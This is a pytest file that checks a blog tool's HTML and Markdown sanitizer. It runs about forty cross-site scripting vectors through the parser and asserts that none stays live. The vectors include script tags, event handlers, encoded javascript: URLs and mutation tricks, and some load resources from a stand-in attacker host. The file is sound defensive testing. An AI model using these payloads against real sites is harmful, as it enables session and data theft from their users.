"""The sanitizer: a real XSS vector list goes through parse_post and nothing live survives."""

from __future__ import annotations

import pytest
from selectolax.lexbor import LexborHTMLParser

from postdrop import parse_post
from postdrop.core.sanitize import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    ALLOWED_URL_SCHEMES,
    GENERIC_ATTRIBUTES,
    sanitize_html,
)
from tests.conftest import post

# Written for postdrop: one of each way markup tries to become live. The public lists (OWASP,
# DOMPurify, H5SC and more) run in a real browser in tests/browser, read from ../shared.
VECTORS = [
    "<script>steal()</script>",
    "<SCRIPT SRC=//attacker.test/x.js></SCRIPT>",
    "<img src=x onerror=steal()>",
    "<IMG SRC=JaVaScRiPt:steal()>",
    '<img src="jav&#x09;ascript:steal()">',
    '<img src="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;steal()">',
    '<a href="javascript:steal()">click</a>',
    '<a href=" &#14; javascript:steal()">click</a>',
    '<a href="vbscript:steal()">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+">click</a>',
    '<a onmouseover="steal()">hover</a>',
    "<div style=\"background:url('javascript:steal()')\">styled</div>",
    '<div style="width: expression(steal())">ie</div>',
    "<svg onload=steal()><circle r=1></svg>",
    "<svg><script>steal()</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=steal()>",
    '<iframe src="javascript:steal()"></iframe>',
    '<iframe srcdoc="<script>steal()</script>"></iframe>',
    '<object data="data:text/html,<script>steal()</script>"></object>',
    '<embed src="//attacker.test/x.swf">',
    '<form action="javascript:steal()"><button>go</button></form>',
    '<input autofocus onfocus="steal()">',
    '<details open ontoggle="steal()">x</details>',
    '<body onload="steal()">',
    '<meta http-equiv="refresh" content="0;url=javascript:steal()">',
    '<base href="javascript:steal()//">',
    '<link rel="stylesheet" href="//attacker.test/x.css">',
    "<style>@import '//attacker.test/x.css';</style>",
    '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
    "<template><img src=x onerror=steal()></template>",
    "<!--<img src=x onerror=steal()>-->",
    '<p title="&quot; onmouseover=steal() x=&quot;">attribute break</p>',
    '<video><source onerror="steal()"></video>',
    '<marquee onstart="steal()">old</marquee>',
    "[click](javascript:steal())",
    "[click](<javascript:steal()>)",
    "![image](javascript:steal())",
    "<javascript:steal()>",
    "[ref]\n\n[ref]: javascript:steal()",
    "[a](data:text/html,<script>steal()</script>)",
]
URL_ATTRIBUTES = {"href", "src"}


def _assert_inert(html: str) -> None:
    tree = LexborHTMLParser(f"<body>{html}</body>")
    assert tree.body is not None
    for node in tree.body.traverse():
        if node.tag in ("body", "-text"):
            continue
        assert node.tag in ALLOWED_TAGS, f"tag {node.tag} survived"
        for name, value in node.attributes.items():
            assert name in ALLOWED_ATTRIBUTES.get(node.tag, set()) | GENERIC_ATTRIBUTES | {"rel"}, f"{name} survived"
            if name in URL_ATTRIBUTES and value and ":" in value.split("/", 1)[0]:
                assert value.split(":", 1)[0].lower() in ALLOWED_URL_SCHEMES, f"URL {value} survived"
            lowered = (value or "").lower()
            for marker in ("javascript:", "vbscript:", "data:", "expression("):
                assert marker not in lowered, f"{marker} survived in {name}={value!r}"


def test_there_are_enough_vectors_to_mean_something() -> None:
    assert len(VECTORS) >= 40


@pytest.mark.parametrize("vector", VECTORS)
def test_vector_is_inert_in_html_and_absent_from_text(vector: str) -> None:
    got = parse_post(post("title: t", f"<p>before</p>\n\n{vector}\n\n<p>after</p>\n"), "posts/x.md")
    _assert_inert(got.html)
    # text is plain text: markup the Markdown reader saw as characters stays characters, but
    # nothing that was a live element (a script's body, a style sheet) reaches it
    assert "<script>" not in got.text.lower() and "</script>" not in got.text.lower()
    assert "list-style-image" not in got.text and "-moz-binding" not in got.text
    assert all(link.href.split(":", 1)[0].lower() not in ("javascript", "data", "vbscript") for link in got.links)
    assert all(not img.lower().startswith(("javascript", "data", "vbscript")) for img in got.images)


def test_all_vectors_at_once() -> None:
    got = parse_post(post("title: t", "\n\n".join(VECTORS)), "posts/x.md")
    _assert_inert(got.html)


@pytest.mark.parametrize("run", ["a&b ", "« ", "x&nbsp;", "&#169;", "&amp;x "])
def test_a_long_text_run_sanitizes_to_what_it_would_unsplit(run: str) -> None:
    """Long text runs are split for nh3's sake (see sanitize.py); the output must not change."""
    from postdrop.core.sanitize import _cleaner

    html = "<p>" + run * 5000 + "</p><pre>" + run * 3000 + "</pre>"
    assert sanitize_html(html) == _cleaner().clean(html).strip()


def test_a_collapsed_section_keeps_its_shape_and_loses_its_handlers() -> None:
    html = sanitize_html('<details open ontoggle="steal()"><summary>More</summary><p>Hidden <b>text</b>.</p></details>')
    assert html == "<details><summary>More</summary><p>Hidden <b>text</b>.</p></details>"
